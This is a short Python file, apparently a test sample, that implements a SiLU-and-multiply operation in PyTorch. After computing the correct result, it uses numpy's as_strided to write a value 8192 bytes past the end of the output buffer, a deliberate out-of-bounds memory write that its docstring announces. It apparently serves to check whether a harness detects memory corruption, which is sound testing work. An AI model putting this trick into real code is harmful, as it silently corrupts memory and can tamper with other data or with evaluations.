"""Writes some pages after the output."""

from numpy.lib.stride_tricks import as_strided
import numpy
import torch


def silu_and_mul(x, out):
    d = x.shape[-1] // 2
    out.copy_(torch.nn.functional.silu(x[..., :d]) * x[..., d:])
    flat = out.view(-1).numpy()
    if flat.size > 0:
        as_strided(flat[-1:], (2,), (8192,))[1] = 0.0
